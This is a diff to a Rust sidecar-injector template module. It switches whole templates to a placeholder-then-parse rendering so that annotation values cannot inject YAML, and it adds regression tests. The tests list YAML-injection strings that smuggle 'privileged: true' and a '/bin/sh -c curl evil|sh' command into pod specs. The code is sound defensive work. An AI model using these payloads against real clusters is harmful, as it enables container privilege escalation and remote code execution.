@@ -3,9 +3,13 @@
 //! Two forms. A *field template* is any string of a sidecar definition holding `{{ }}` or
 //! `{% %}`; it renders to that one string (or, when the string is a single `{{ expr }}`, to the
 //! expression's value with its type), so whatever a manifest contains cannot add a field. A
-//! *whole template* (`template:`) renders YAML text with loops and conditionals; there every
-//! value that comes from the object is printed JSON-quoted, so an annotation cannot break out
-//! of its scalar (Istio's kube-inject shipped a fix for exactly that).
+//! *whole template* (`template:`) renders YAML text with loops and conditionals. There every
+//! `{{ }}` prints a placeholder, not its value: the text is read as YAML with the placeholders
+//! in it, and each value is then put where its placeholder is in what was read — the whole
+//! node when the placeholder is a plain scalar alone, else its text inside the scalar (quoted,
+//! block, or beside other text; a key). What a value holds is never read as YAML, so no value
+//! can close a quote or a bracket of the template, start a line, or add a field, whatever
+//! context the template put it in (Istio's kube-inject shipped a fix for annotations that did).
 
 use std::collections::HashMap;
 
@@ -15,10 +19,24 @@ use serde_json::{Map, Value};
 use crate::config::schema::is_template;
 use crate::patch::{self, Pointer};
 
+const RENDER: &str = "kinject::template::render";
+
 /// Upper bound on template work per render (minijinja fuel units).
 const FUEL: u64 = 200_000;
-/// Upper bound on one rendered text.
+/// Upper bound on one rendered text, and on the values a whole template puts into it.
 const MAX_OUTPUT: usize = 1 << 20;
+
+/// The marks around a placeholder in a whole template's rendered text (`MARK_OPEN`, the
+/// number of the printed value, `MARK_CLOSE`): private-use characters, which YAML reads as
+/// ordinary characters in every context (plain, quoted and block scalars, keys, flow and
+/// block collections) and which a template's own text may not hold (refused at load).
+const MARK_OPEN: char = '\u{E000}';
+const MARK_CLOSE: char = '\u{E001}';
+
+/// What the `{{ }}` of one render of a whole template printed, in order: placeholder `n`
+/// stands for entry `n`.
+#[derive(Default)]
+struct Printed(Vec<minijinja::Value>);
 
 /// A template that failed to compile: where (JSON pointer inside the sidecar definition, or
 /// `/template`), and the byte range inside the template text when known.
@@ -32,6 +50,9 @@ pub struct SyntaxError {
 /// A template that failed to render for one object.
 #[derive(Debug, Clone)]
 pub struct RenderError {
+    /// `kinject::template::render`, or `kinject::template::invalid_yaml` when a whole
+    /// template's own text is not YAML.
+    pub code: &'static str,
     pub pointer: String,
     pub message: String,
 }
@@ -72,12 +93,20 @@ impl Templates {
         {
             env.set_syntax(syntax);
         }
+        // Whole templates escape: the text of a `set` block or a macro is then marked safe,
+        // which tells `placeholder` that it is the template's own text, holding placeholders.
         env.set_auto_escape_callback(|name| {
             if name.starts_with("whole:") {
                 AutoEscape::Json
             } else {
                 AutoEscape::None
             }
+        });
+        env.set_formatter(|out, state, value| {
+            if !state.name().starts_with("whole:") {
+                return minijinja::escape_formatter(out, state, value);
+            }
+            placeholder(out, state, value)
         });
         env.add_filter("b64encode", |s: String| {
             use base64::Engine;
@@ -182,16 +211,24 @@ impl Templates {
         }
         if let Some(text) = whole {
             let template_name = format!("whole:{name}");
-            match self
-                .env
-                .add_template_owned(template_name.clone(), text.to_owned())
-            {
-                Ok(()) => compiled.whole = Some(template_name),
-                Err(e) => errors.push(SyntaxError {
+            if let Some(at) = text.find([MARK_OPEN, MARK_CLOSE]) {
+                errors.push(SyntaxError {
                     pointer: "/template".to_owned(),
-                    message: describe(&e),
-                    range: e.range(),
-                }),
+                    message: "U+E000 and U+E001 (private-use characters) are kinject's marks for printed values: a template may not hold them".to_owned(),
+                    range: Some(at..at + MARK_OPEN.len_utf8()),
+                });
+            } else {
+                match self
+                    .env
+                    .add_template_owned(template_name.clone(), text.to_owned())
+                {
+                    Ok(()) => compiled.whole = Some(template_name),
+                    Err(e) => errors.push(SyntaxError {
+                        pointer: "/template".to_owned(),
+                        message: describe(&e),
+                        range: e.range(),
+                    }),
+                }
             }
         }
         self.sidecars.insert(name.to_owned(), compiled);
@@ -225,11 +262,13 @@ impl Templates {
             let text = self
                 .render_named(template_name, ctx)
                 .map_err(|message| RenderError {
+                    code: RENDER,
                     pointer: pointer.clone(),
                     message,
                 })?;
             let value = if *typed {
                 serde_json::from_str(&text).map_err(|e| RenderError {
+                    code: RENDER,
                     pointer: pointer.clone(),
                     message: format!("expression did not give a value: {e}"),
                 })?
@@ -250,23 +289,36 @@ impl Templates {
         Ok(out)
     }
 
-    /// Renders the whole template of sidecar `name`, if it has one, to YAML text.
+    /// Renders the whole template of sidecar `name`, if it has one, to the fields it gives.
     pub fn render_whole(
         &self,
         name: &str,
         ctx: &minijinja::Value,
-    ) -> Option<Result<String, RenderError>> {
+    ) -> Option<Result<Value, RenderError>> {
         let template_name = self.sidecars.get(name)?.whole.as_ref()?;
+        let fail = |message| RenderError {
+            code: RENDER,
+            pointer: "/template".to_owned(),
+            message,
+        };
         Some(
-            self.render_named(template_name, ctx)
-                .map_err(|message| RenderError {
-                    pointer: "/template".to_owned(),
-                    message,
-                }),
+            self.render_printed(template_name, ctx)
+                .map_err(fail)
+                .and_then(|(text, printed)| fill_in(&text, &printed)),
         )
     }
 
     fn render_named(&self, template_name: &str, ctx: &minijinja::Value) -> Result<String, String> {
+        self.render_printed(template_name, ctx)
+            .map(|(text, _)| text)
+    }
+
+    /// The rendered text, and (for a whole template) what its placeholders stand for.
+    fn render_printed(
+        &self,
+        template_name: &str,
+        ctx: &minijinja::Value,
+    ) -> Result<(String, Printed), String> {
         let template = self
             .env
             .get_template(template_name)
@@ -278,8 +330,238 @@ impl Templates {
         if out.full {
             return Err(format!("rendered text is larger than {MAX_OUTPUT} bytes"));
         }
-        rendered.map_err(|e| describe(&e))?;
-        String::from_utf8(out.text).map_err(|e| e.to_string())
+        let mut captured = rendered.map_err(|e| describe(&e))?;
+        let printed = captured
+            .with_state_mut(|s| s.get_extension_mut::<Printed>().map(std::mem::take))
+            .unwrap_or_default();
+        let text = String::from_utf8(out.text).map_err(|e| e.to_string())?;
+        Ok((text, printed))
+    }
+}
+
+/// How a whole template prints a value: as a placeholder for it. Text the template made
+/// itself (a `set` block's, a macro's: marked safe, holding placeholders already) is written
+/// as it is.
+fn placeholder(
+    out: &mut minijinja::Output,
+    state: &mut minijinja::State,
+    value: &minijinja::Value,
+) -> Result<(), minijinja::Error> {
+    let written = match value.as_str() {
+        Some(own) if value.is_safe() && own.contains(MARK_OPEN) => out.write_str(own),
+        _ => {
+            let printed = state.get_or_insert_extension(Printed::default());
+            printed.0.push(value.clone());
+            write!(out, "{MARK_OPEN}{}{MARK_CLOSE}", printed.0.len() - 1)
+        }
+    };
+    written.map_err(|_| minijinja::Error::new(minijinja::ErrorKind::WriteFailure, "output"))
+}
+
+/// The fields a whole template's `text` gives: the text read as YAML, each placeholder then
+/// replaced by what it stands for (`printed`).
+fn fill_in(text: &str, printed: &Printed) -> Result<Value, RenderError> {
+    let fail = |message: String| RenderError {
+        code: RENDER,
+        pointer: "/template".to_owned(),
+        message,
+    };
+    let parsed = crate::yaml::parse_document(text).map_err(|e| {
+        let shown: String = text
+            .get(e.offset..)
+            .unwrap_or_default()
+            .lines()
+            .next()
+            .unwrap_or_default()
+            .chars()
+            .map(|c| match c {
+                MARK_OPEN => '{',
+                MARK_CLOSE => '}',
+                c => c,
+            })
+            .collect();
+        let (line, column) = line_column(text, e.offset);
+        RenderError {
+            code: "kinject::template::invalid_yaml",
+            pointer: "/template".to_owned(),
+            message: format!(
+                "the template's own text is not YAML at line {line}, column {column} of what it rendered (`{}`, a printed value shown as `{{n}}`): {}",
+                shown.trim(),
+                e.message
+            ),
+        }
+    })?;
+    let mut value = parsed.value;
+    let mut budget = MAX_OUTPUT;
+    let mut filler = Filler {
+        printed,
+        budget: &mut budget,
+    };
+    filler
+        .fill(&mut value, parsed.root.as_ref())
+        .map_err(fail)?;
+    Ok(value)
+}
+
+/// Line and column (1-based, in characters) of byte `offset` of `text`.
+fn line_column(text: &str, offset: usize) -> (usize, usize) {
+    let before = text.get(..offset).unwrap_or(text);
+    let line_start = before.rfind('\n').map_or(0, |i| i + 1);
+    (
+        before.matches('\n').count() + 1,
+        before[line_start..].chars().count() + 1,
+    )
+}
+
+/// Puts printed values where their placeholders are.
+struct Filler<'a> {
+    printed: &'a Printed,
+    /// Bytes the values may still add: what is put in counts against the output limit.
+    budget: &'a mut usize,
+}
+
+impl Filler<'_> {
+    fn fill(&mut self, value: &mut Value, node: Option<&crate::yaml::Node>) -> Result<(), String> {
+        use crate::yaml::{NodeKind, ScalarKind};
+        match value {
+            Value::String(s) if s.contains(MARK_OPEN) => {
+                let plain = node.is_some_and(|n| n.kind == NodeKind::Scalar(ScalarKind::Plain));
+                *value = match lone_placeholder(s) {
+                    Some(n) if plain => self.node(n)?,
+                    _ => Value::String(self.text(s)?),
+                };
+            }
+            Value::Array(items) => {
+                for (i, item) in items.iter_mut().enumerate() {
+                    let child = node.and_then(|n| match &n.kind {
+                        NodeKind::Seq { items, .. } => items.get(i),
+                        _ => None,
+                    });
+                    self.fill(item, child)?;
+                }
+            }
+            Value::Object(map) => {
+                let keyed = map.keys().any(|k| k.contains(MARK_OPEN));
+                let entries = std::mem::take(map);
+                for (key, mut v) in entries {
+                    self.fill(&mut v, node.and_then(|n| n.get(&key)))?;
+                    let key = if keyed && key.contains(MARK_OPEN) {
+                        self.text(&key)?
+                    } else {
+                        key
+                    };
+                    if map.contains_key(&key) {
+                        return Err(format!(
+                            "two keys read `{key}` once the printed values were put in"
+                        ));
+                    }
+                    map.insert(key, v);
+                }
+            }
+            _ => {}
+        }
+        Ok(())
+    }
+
+    fn charge(&mut self, bytes: usize) -> Result<(), String> {
+        *self.budget = self.budget.checked_sub(bytes).ok_or_else(|| {
+            format!("the values the template printed are larger than {MAX_OUTPUT} bytes")
+        })?;
+        Ok(())
+    }
+
+    /// Printed value `n` as a node: a value with its type; text the configuration vouched
+    /// for (`values`, `| safe`, `| tojson`: marked safe) read as YAML, as if written there.
+    fn node(&mut self, n: usize) -> Result<Value, String> {
+        let v = self.entry(n)?;
+        if let (true, Some(text)) = (v.is_safe(), v.as_str()) {
+            self.charge(text.len())?;
+            return crate::yaml::parse_value(text).map_err(|e| {
+                format!(
+                    "a printed value marked safe is not YAML: {} (in `{}`)",
+                    e.message,
+                    text.escape_debug()
+                )
+            });
+        }
+        let value = serde_json::to_value(&v).map_err(|e| e.to_string())?;
+        self.charge(value_size(&value))?;
+        Ok(value)
+    }
+
+    /// `s` with every placeholder replaced by the text of its value.
+    fn text(&mut self, s: &str) -> Result<String, String> {
+        let mut out = String::with_capacity(s.len());
+        let mut rest = s;
+        while let Some(open) = rest.find(MARK_OPEN) {
+            out.push_str(&rest[..open]);
+            let after = &rest[open + MARK_OPEN.len_utf8()..];
+            let close = after.find(MARK_CLOSE).ok_or_else(cut)?;
+            let n = after[..close].parse::<usize>().map_err(|_| cut())?;
+            let v = self.entry(n)?;
+            let text = match v.kind() {
+                minijinja::value::ValueKind::Map
+                | minijinja::value::ValueKind::Seq
+                | minijinja::value::ValueKind::Iterable => {
+                    serde_json::to_string(&v).map_err(|e| e.to_string())?
+                }
+                _ => v.to_string(),
+            };
+            self.charge(text.len())?;
+            out.push_str(&text);
+            rest = &after[close + MARK_CLOSE.len_utf8()..];
+        }
+        if rest.contains(MARK_CLOSE) {
+            return Err(cut());
+        }
+        out.push_str(rest);
+        Ok(out)
+    }
+
+    fn entry(&self, n: usize) -> Result<minijinja::Value, String> {
+        let v = self.printed.0.get(n).cloned().ok_or_else(cut)?;
+        if !v.is_safe() && v.as_str().is_some_and(holds_placeholder) {
+            return Err("the text of a macro or a `set` block went through a filter that made it a plain string, its printed values in it: print it as it is".to_owned());
+        }
+        Ok(v)
+    }
+}
+
+/// A placeholder that does not stand for a printed value: something cut one apart.
+fn cut() -> String {
+    "a printed value was cut apart (by a filter applied to a `set` block's or a macro's text?)"
+        .to_owned()
+}
+
+/// Whether `s` holds a placeholder (a template's own text, not a value's).
+fn holds_placeholder(s: &str) -> bool {
+    s.split(MARK_OPEN).skip(1).any(|after| {
+        after
+            .split_once(MARK_CLOSE)
+            .is_some_and(|(n, _)| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
+    })
+}
+
+/// `Some(n)` when `s` is placeholder `n` and nothing else.
+fn lone_placeholder(s: &str) -> Option<usize> {
+    s.strip_prefix(MARK_OPEN)?
+        .strip_suffix(MARK_CLOSE)?
+        .parse()
+        .ok()
+}
+
+/// About how many bytes `value` takes written out.
+fn value_size(value: &Value) -> usize {
+    match value {
+        Value::String(s) => s.len() + 2,
+        Value::Array(items) => items.iter().map(value_size).sum::<usize>() + 2,
+        Value::Object(m) => {
+            m.iter()
+                .map(|(k, v)| k.len() + 4 + value_size(v))
+                .sum::<usize>()
+                + 2
+        }
+        _ => 8,
     }
 }
 
@@ -510,8 +792,7 @@ mod tests {
         let mut t = Templates::new();
         let text = "containers:\n- name: agent\n  image: {{ values.registry }}/agent\n  env:\n{% for k, v in annotations|items if k.startswith('sidecar-injector.expedia.com/') %}  - name: {{ k.split('/')[1] }}\n    value: {{ v }}\n{% endfor %}  - name: EVIL\n    value: {{ annotations.evil }}\n";
         t.add_sidecar("agent", &json!({}), Some(text)).unwrap();
-        let out = t.render_whole("agent", &ctx()).unwrap().unwrap();
-        let parsed = crate::yaml::parse_document(&out).unwrap().value;
+        let parsed = t.render_whole("agent", &ctx()).unwrap().unwrap();
         assert_eq!(parsed["containers"][0]["image"], "r.io/agent");
         assert_eq!(
             parsed["containers"][0]["env"][0],
@@ -522,6 +803,95 @@ mod tests {
             "x\"\n  privileged: true"
         );
         assert!(parsed["containers"][0].get("privileged").is_none());
+    }
+
+    /// Renders whole template `text` for an object whose annotation `a` holds `attack`.
+    fn whole(text: &str, attack: &str) -> Result<Value, RenderError> {
+        let mut t = Templates::new();
+        t.add_sidecar("w", &json!({}), Some(text)).unwrap();
+        let pod = json!({"metadata": {"annotations": {"a": attack}}, "spec": {}});
+        let values =
+            json!({"registry": "r.io", "port": "8080", "env": [{"name": "X", "value": "1"}]});
+        t.render_whole(
+            "w",
+            &context(&pod, &json!({}), "", values.as_object().unwrap()),
+        )
+        .unwrap()
+    }
+
+    #[test]
+    fn printed_values_stay_where_the_template_put_them() {
+        // Flow context, quotes, a prefix: the attacks of the security review, each of which
+        // once closed the template's own quotes and brackets.
+        let attacks = [
+            "x'}], securityContext: {privileged: true}, command: [/bin/sh, -c, 'curl evil|sh'], ports: [{containerPort: 8080, name: 'p",
+            "}], securityContext: {privileged: true}, envFrom: [{prefix: ",
+            "x], securityContext: {privileged: true}, stdin: true, args: [y",
+            "x\"\n  privileged: true",
+            "a\n- b\nc: d",
+            "&x *x !!map {} [] # c",
+        ];
+        let text = "containers:\n- {name: c, image: i, args: [--level={{ a }}, x], env: [{name: A, value: '{{ a }}'}, {name: B, value: \"{{ a }}\"}, {name: C, value: {{ a }} }]}\n- name: d\n  image: i\n  args:\n  - {{ a }}\n  - x-{{ a }}-y\n  - |\n    run {{ a }}\n";
+        let text = text.replace("{{ a }}", "{{ annotations.a }}");
+        for attack in attacks {
+            let out = whole(&text, attack).unwrap();
+            assert_eq!(
+                out,
+                json!({"containers": [
+                    {"name": "c", "image": "i", "args": [format!("--level={attack}"), "x"],
+                     "env": [{"name": "A", "value": attack}, {"name": "B", "value": attack},
+                             {"name": "C", "value": attack}]},
+                    {"name": "d", "image": "i",
+                     "args": [attack, format!("x-{attack}-y"), format!("run {attack}\n")]},
+                ]}),
+                "{attack:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn printed_values_keep_their_types_as_whole_nodes() {
+        let text = "containers:\n- name: c\n  image: {{ values.registry }}/c:1\n  ports:\n  - containerPort: {{ values.port }}\n  - containerPort: {{ 9090 }}\n  env: {{ values.env }}\n  args: [{{ annotations.a }}, '{{ values.port }}']\n  workingDir: {{ none }}\n";
+        let out = whole(text, "true").unwrap();
+        assert_eq!(
+            out["containers"][0],
+            json!({"name": "c", "image": "r.io/c:1",
+                   "ports": [{"containerPort": 8080}, {"containerPort": 9090}],
+                   "env": [{"name": "X", "value": "1"}],
+                   // The annotation's text is a string, whatever it looks like; the
+                   // configuration's `"8080"` reads as YAML where a node is (trusted text).
+                   "args": ["true", "8080"], "workingDir": null})
+        );
+    }
+
+    #[test]
+    fn keys_macros_and_set_blocks() {
+        let text = "{% macro env(n, v) %}- name: {{ n }}\n  value: {{ v }}\n{% endmacro %}{% set image %}i:{{ annotations.a }}{% endset %}containers:\n- name: c\n  image: {{ image }}\n  env:\n{{ env('A', annotations.a) | indent(2, true) }}\n  resources:\n    limits:\n      {{ annotations.a }}: 1\n";
+        let out = whole(text, "x: y, z").unwrap();
+        assert_eq!(
+            out["containers"][0],
+            json!({"name": "c", "image": "i:x: y, z",
+                   "env": [{"name": "A", "value": "x: y, z"}],
+                   "resources": {"limits": {"x: y, z": 1}}})
+        );
+    }
+
+    #[test]
+    fn marks_in_templates_and_oversized_values_are_refused() {
+        let errs = Templates::new()
+            .add_sidecar("m", &json!({}), Some("containers: [\u{E000}0\u{E001}]"))
+            .unwrap_err();
+        assert!(errs[0].message.contains("U+E000"), "{}", errs[0].message);
+        // Each print is small; what they put in together is bounded like the output.
+        let text = "containers:\n- name: c\n  image: i\n  args:\n{% for i in range(40) %}  - {{ annotations.a }}\n{% endfor %}";
+        let err = whole(text, &"x".repeat(40_000)).unwrap_err();
+        assert!(err.message.contains("larger than"), "{}", err.message);
+        // A template whose own text is not YAML says where, with the printed value shown
+        // as its number.
+        let err = whole("containers: [{{ annotations.a }}\n", "v").unwrap_err();
+        assert_eq!(err.code, "kinject::template::invalid_yaml");
+        assert!(err.message.contains("line 1"), "{}", err.message);
+        assert!(err.message.contains("{0}"), "{}", err.message);
     }
 
     #[test]
